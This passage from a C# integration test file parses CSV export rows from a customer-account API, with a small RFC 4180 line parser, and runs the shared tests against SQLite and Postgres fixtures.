    private async Task<List<string[]>> ExportRowsAsync(string url)
    {
        var (_, lines) = await ExportAsync(_admin, url);
        Assert.Equal(ExportHeader, lines[0]);
        return lines.Skip(1).Select(ParseCsvLine).ToList();
    }

    /// <summary>One RFC 4180 record (no line breaks inside fields in these tests).</summary>
    private static string[] ParseCsvLine(string line)
    {
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        fields.Add(field.ToString());
        return [.. fields];
    }
}

[Collection("sqlite")]
public sealed class SqliteCustomerAccountTests(SqliteApiFixture api) : CustomerAccountTests(api);

[Collection("postgres")]
public sealed class PostgresCustomerAccountTests(PostgresApiFixture api) : CustomerAccountTests(api);
